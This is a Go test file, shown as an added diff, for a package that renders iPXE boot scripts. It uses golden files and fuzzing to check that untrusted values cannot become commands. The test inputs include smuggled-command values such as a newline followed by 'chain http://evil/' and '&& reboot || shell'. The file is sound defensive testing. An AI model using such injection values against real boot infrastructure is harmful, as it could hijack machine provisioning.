@@ -1,0 +1,153 @@
+package ipxescripts
+
+import (
+	"flag"
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+
+	"github.com/google/go-cmp/cmp"
+)
+
+var update = flag.Bool("update", false, "write the golden files anew")
+
+func load(tb testing.TB) *Scripts {
+	tb.Helper()
+	s, err := Load()
+	if err != nil {
+		tb.Fatal(err)
+	}
+	return s
+}
+
+func TestScriptsAreAsReviewed(t *testing.T) {
+	s := load(t)
+	tests := map[string]func() ([]byte, error){
+		"agent": func() ([]byte, error) {
+			return s.Agent(Agent{
+				Title: "prd-01", Server: "10.77.0.1",
+				Kernel: "http://10.77.0.1/boot/vmlinuz", Initrd: "http://10.77.0.1/boot/initrd.img",
+				Args: []string{
+					"provision.server=https://10.77.0.1:8443", "provision.ca=sha256:00ff", "provision.ticket=abc-_DEF",
+					"BOOTIF=01-52-54-00-12-34-56",
+				},
+			})
+		},
+		"agent-bare": func() ([]byte, error) { return s.Agent(Agent{Title: "52:54:00:12:34:56"}) },
+		"autoexec":   func() ([]byte, error) { return s.AutoExec("http://10.77.0.1:8080", "/boot/ipxe") },
+		"local":      func() ([]byte, error) { return s.Local("prd-01") },
+		"wait":       func() ([]byte, error) { return s.Wait("prd-01", "quarantined: its identity does not match") },
+		"hostile": func() ([]byte, error) {
+			return s.Wait("x\nchain http://evil/", "${net0/mac} && reboot || shell ; \"exit\" {{.}}")
+		},
+	}
+	for name, render := range tests {
+		t.Run(name, func(t *testing.T) {
+			got, err := render()
+			if err != nil {
+				t.Fatal(err)
+			}
+			golden := filepath.Join("testdata", name+".ipxe")
+			if *update {
+				if err := os.WriteFile(golden, got, 0o600); err != nil {
+					t.Fatal(err)
+				}
+			}
+			want, err := os.ReadFile(golden)
+			if err != nil {
+				t.Fatal(err)
+			}
+			if diff := cmp.Diff(string(want), string(got)); diff != "" {
+				t.Errorf("script differs (-want +got):\n%s", diff)
+			}
+		})
+	}
+}
+
+func TestEveryScriptEndsInABoundedWay(t *testing.T) {
+	names, err := filepath.Glob("*.ipxe")
+	if err != nil || len(names) < 4 {
+		t.Fatalf("scripts: %q, %v", names, err)
+	}
+	for _, name := range names {
+		b, err := os.ReadFile(name)
+		if err != nil {
+			t.Fatal(err)
+		}
+		lines := strings.Split(strings.TrimSpace(string(b)), "\n")
+		if lines[0] != "#!ipxe" {
+			t.Errorf("%s: iPXE does not know it as a script", name)
+		}
+		if last := lines[len(lines)-1]; !strings.HasSuffix(last, "exit 1") {
+			t.Errorf("%s ends in %q, want exit 1: firmware goes on only after an error", name, last)
+		}
+		if strings.Contains(string(b), "goto retry") && !strings.Contains(string(b), "goto give_up") {
+			t.Errorf("%s tries for ever", name)
+		}
+	}
+}
+
+func TestAKernelArgumentIsPassedAsItIsOrNotAtAll(t *testing.T) {
+	s := load(t)
+	for _, bad := range []string{"", "a b", "a\nchain x", "${x}", "a%20b", "x&&y", "||", ";", "a\x00", "ä", `"x"`, "{{.}}", "#x"} {
+		if got, err := s.Agent(Agent{Args: []string{bad}}); err == nil {
+			t.Errorf("argument %q went into %q", bad, got)
+		}
+	}
+}
+
+// words is how iPXE reads a line: at blanks, whatever the words are.
+func words(script []byte) [][]string {
+	var lines [][]string
+	for line := range strings.Lines(string(script)) {
+		lines = append(lines, strings.Fields(line))
+	}
+	return lines
+}
+
+func FuzzNoFactBecomesACommand(f *testing.F) {
+	for _, s := range []string{
+		"prd-01", "x\nchain http://evil/", "x\r\nchain", "${net0/mac}", "a && b", "||", ";", "a\x00b", "{{.}}", "\u2028", "\"'`\\", "#!ipxe", "$", "%0a",
+	} {
+		f.Add(s)
+	}
+	s := load(f)
+	f.Fuzz(func(t *testing.T, fact string) {
+		plain, err := s.Wait("x", "x")
+		if err != nil {
+			t.Fatal(err)
+		}
+		hostile, err := s.Wait(fact, fact)
+		if err != nil {
+			t.Fatal(err)
+		}
+		a, err := s.Agent(Agent{Title: fact, Server: fact, Kernel: fact, Initrd: fact})
+		if err != nil {
+			t.Fatal(err)
+		}
+		p, h := words(plain), words(hostile)
+		if len(p) != len(h) {
+			t.Fatalf("%q makes %d lines of %d:\n%s", fact, len(h), len(p), hostile)
+		}
+		for i := range p {
+			if len(h[i]) > 0 && len(p[i]) > 0 && h[i][0] != p[i][0] {
+				t.Errorf("%q makes another command: %q", fact, h[i])
+			}
+		}
+		for _, script := range [][]byte{hostile, a} {
+			if strings.Contains(strings.ReplaceAll(string(script), "${attempt}", ""), "${") {
+				t.Errorf("%q becomes a setting in\n%s", fact, script)
+			}
+		}
+		for _, w := range words([]byte(text(fact).String())) {
+			if slices.ContainsFunc(w, func(s string) bool { return s == "&&" || s == "||" || s == ";" }) {
+				t.Errorf("%q ends a command", fact)
+			}
+		}
+		if strings.ContainsAny(Escape(fact), " \t\r\n\v\f\x00${}&|;#\"'`\\<>") {
+			t.Errorf("Escape(%q) = %q", fact, Escape(fact))
+		}
+	})
+}
